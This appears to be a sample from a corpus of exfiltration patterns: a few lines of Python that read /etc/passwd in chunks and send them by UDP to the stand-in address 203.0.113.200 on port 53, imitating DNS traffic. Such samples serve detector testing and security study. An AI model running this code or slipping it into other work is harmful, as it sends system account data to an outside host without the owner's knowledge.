# corpus: UDP datagrams carrying /etc/passwd to an IP literal (socket.sendto)
import socket

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
with open("/etc/passwd", "rb") as fh:
    while chunk := fh.read(512):
        sock.sendto(chunk, ("203.0.113.200", 53))
